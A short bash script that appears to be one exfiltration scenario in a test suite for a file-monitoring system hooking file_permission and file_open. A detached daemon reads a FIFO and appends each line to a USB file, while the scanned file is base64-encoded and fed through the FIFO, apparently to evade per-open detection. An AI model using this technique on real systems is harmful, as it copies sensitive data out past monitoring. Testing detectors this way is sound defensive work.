#!/usr/bin/env bash
# technique: a daemon started beforehand reads a FIFO line by line and opens the USB file anew for each
# hooks: file_permission, file_open
# sink: usb

. attack.sh
mkfifo "$ROOM/way"
# shellcheck disable=SC2016 # for the shell inside
setsid bash -c 'while IFS= read -r line; do printf "%s\n" "$line" >>"$COPY"; done <"$ROOM/way"' &
# shellcheck disable=SC2016 # for the shell inside
timeout 6 bash -c 'base64 -w 4000 "$SCAN" | head -n 20 >"$ROOM/way"'
wait $!
